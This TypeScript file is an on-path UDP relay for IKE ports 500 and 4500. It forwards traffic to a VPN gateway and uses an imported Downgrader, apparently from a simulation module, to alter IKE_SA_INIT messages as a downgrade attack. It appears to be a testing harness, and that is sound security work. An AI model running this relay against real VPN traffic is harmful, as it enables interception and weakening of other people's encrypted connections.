// Somebody on the path: downgrade-relay.ts LISTEN-ADDRESS OUTER-ADDRESS GATEWAY ATTACK
// Takes datagrams for ports 500 and 4500 at LISTEN-ADDRESS and sends them on to GATEWAY from ports of its own at
// OUTER-ADDRESS, a pair of ports for each client. ATTACK, an object in JSON, says what happens to IKE_SA_INIT on the
// way; every datagram that is not as it came is a line of output.
import { createSocket, type Socket } from 'node:dgram';
import { once } from 'node:events';
import { type Attack, Downgrader } from '../../sim/downgrader.js';

const [listen = '', outer = '', gateway = '', attack = '{}'] = process.argv.slice(2);
const downgrader = new Downgrader(JSON.parse(attack) as Attack);

async function open(address: string, port = 0): Promise<Socket> {
  const socket = createSocket('udp4');
  socket.on('error', (error) => console.error(error.message));
  socket.bind(port, address);
  await once(socket, 'listening');
  return socket;
}

for (const port of [500, 4500]) {
  const inside = await open(listen, port);
  const outsides = new Map<string, Promise<Socket>>();
  const outsideOf = (address: string, from: number): Promise<Socket> => {
    const key = `${address} ${from}`;
    const outside =
      outsides.get(key) ??
      open(outer).then((socket) => {
        socket.on('message', (data) => {
          const { toClient } = downgrader.fromServer(data);
          if (toClient[0] !== data) console.log(`changed a response on port ${port}`);
          for (const each of toClient) inside.send(each, from, address);
        });
        return socket;
      });
    outsides.set(key, outside);
    return outside;
  };
  inside.on('message', async (data, client) => {
    const outside = await outsideOf(client.address, client.port);
    const { toClient, toServer } = downgrader.fromClient(data);
    if (toServer[0] !== data) console.log(`changed a request on port ${port}`);
    for (const each of toClient) inside.send(each, client.port, client.address);
    for (const each of toServer) outside.send(each, port, gateway);
  });
}

console.log('ready');
